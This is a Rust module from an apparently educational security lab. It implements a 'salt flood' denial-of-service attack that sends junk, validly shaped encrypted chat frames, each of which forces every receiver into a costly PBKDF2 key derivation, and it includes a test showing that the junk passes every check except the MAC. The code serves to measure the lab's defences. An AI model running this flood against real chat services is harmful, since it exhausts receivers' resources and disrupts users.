//! The salt flood: an attack on the receivers of the lab's key scheme by
//! someone who does not know the password.
//!
//! Under the lab's scheme a message's key is PBKDF2 of the password and the
//! message's salt, which travels in clear; a receiver must derive the key
//! before it can check the MAC. So a frame that is well formed (a valid
//! salt, a token of the right shape) but made of random bytes costs every
//! receiver one PBKDF2 run before it is found to be junk. At 600,000
//! iterations that is about 70 ms per frame, per receiver, and frames cost
//! the attacker nothing to make.
//!
//! [`flood`] sends such frames as fast as the server takes them, pipelined,
//! under nicks it joins (the original's trust model lets anyone). What stops
//! it is on the receiving side (`layer::budget`, `client::inbox`) and in the
//! `hkdf` key scheme (`layer::kdf`); `chat_flood` (lab) measures both.

use std::io;
use std::thread;
use std::time::{Duration, Instant};

use base64::Engine;
use base64::engine::general_purpose::URL_SAFE;
use rand::RngCore;

use crate::client::base_client::connect;
use crate::client::{ClientError, Endpoint, RequestChannel};
use crate::layer::keys::crypto::{self, CryptoError, Salt};
use crate::wire::connection::{FrameReader, FrameWriter};
use crate::wire::{Codec, Connection, MessageBody, Nick, Request, Response, Sealed};

/// Bytes queued before the writer flushes them.
const WRITE_CHUNK: usize = 64 * 1024;

/// The Fernet token version byte.
const TOKEN_VERSION: u8 = 0x80;
/// Random bytes after the timestamp: a 16-byte IV, one 16-byte block of
/// ciphertext, a 32-byte MAC.
const RANDOM_TAIL: usize = 16 + 16 + 32;

/// A `{salt, token}` body that passes every check a receiver can make
/// without the key: a fresh 16-byte salt, a token of the right version,
/// dated `unix_now`, of a whole number of blocks. Its MAC is random.
pub fn junk_sealed(unix_now: u64) -> Result<Sealed<'static>, CryptoError> {
    let salt = Salt::generate()?;
    let mut token = Vec::with_capacity(1 + 8 + RANDOM_TAIL);
    token.push(TOKEN_VERSION);
    token.extend_from_slice(&unix_now.to_be_bytes());
    let mut tail = [0u8; RANDOM_TAIL];
    rand::rng().fill_bytes(&mut tail);
    token.extend_from_slice(&tail);
    Ok(Sealed {
        salt: salt.to_base64().into(),
        token: URL_SAFE.encode(token).into(),
    })
}

/// What a flood achieved.
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct Flood {
    /// Junk frames sent.
    pub sent: usize,
    /// Of those, how many the server accepted and broadcast.
    pub accepted: usize,
    /// From the first frame written to the last answer read.
    pub elapsed: Duration,
}

/// Joins `nicks`, then sends `count` junk frames spread over them,
/// pipelined on a connection of their own (in the original's trust model
/// any connection may speak for any joined nick).
pub fn flood(endpoint: &Endpoint, nicks: &[Nick], count: usize) -> Result<Flood, ClientError> {
    let mut requests = RequestChannel::connect(endpoint)?;
    for nick in nicks {
        requests.request(&Request::Join {
            nick: nick.clone(),
            subscriber: None,
        })?;
    }
    let frames = junk_frames(nicks, count)?;
    let Connection { reader, writer } = Connection::new(connect(&endpoint.host, endpoint.port)?);
    let started = Instant::now();
    let sending = thread::spawn(move || write_all(writer, &frames));
    let accepted = count_accepted(reader, count)?;
    sending
        .join()
        .map_err(|_| io::Error::other("the flood's writer panicked"))??;
    Ok(Flood {
        sent: count,
        accepted,
        elapsed: started.elapsed(),
    })
}

/// `count` junk messages, each from the next nick in turn, made before the
/// clock starts so that the flood runs at the network's pace.
fn junk_frames(nicks: &[Nick], count: usize) -> Result<Vec<Request<'static>>, ClientError> {
    let now = crypto::unix_now(0);
    let mut frames = Vec::with_capacity(count);
    for nick in nicks.iter().cycle().take(count) {
        let body = junk_sealed(now).map_err(|e| io::Error::other(e.to_string()))?;
        frames.push(Request::Message {
            nick: nick.clone(),
            body: MessageBody::Sealed(body),
        });
    }
    Ok(frames)
}

fn write_all(mut writer: FrameWriter, frames: &[Request<'_>]) -> io::Result<()> {
    for frame in frames {
        writer.queue(|out| Codec::Json.encode_request(frame, out));
        if writer.pending() >= WRITE_CHUNK {
            writer.flush()?;
        }
    }
    writer.flush()
}

/// Reads `count` answers; how many were `ok`.
fn count_accepted(mut reader: FrameReader, count: usize) -> Result<usize, ClientError> {
    let mut accepted = 0;
    for _ in 0..count {
        let line = reader.read_frame()?.ok_or(ClientError::Closed)?;
        let answer = Codec::Json.decode_response(line);
        accepted += usize::from(matches!(answer, Ok(Response::Ok)));
    }
    Ok(accepted)
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::layer::keys::crypto::{DecryptError, Password};

    #[test]
    fn junk_passes_every_check_but_the_mac() {
        let junk = junk_sealed(1_800_000_000).unwrap();
        let info = crypto::inspect_token(&junk.token).unwrap();
        assert_eq!(info.timestamp, 1_800_000_000);
        let opened = crypto::decrypt_message(&Password::new("any"), &junk.token, &junk.salt, 1);
        assert_eq!(opened, Err(DecryptError::WrongKeyOrAltered));
    }
}
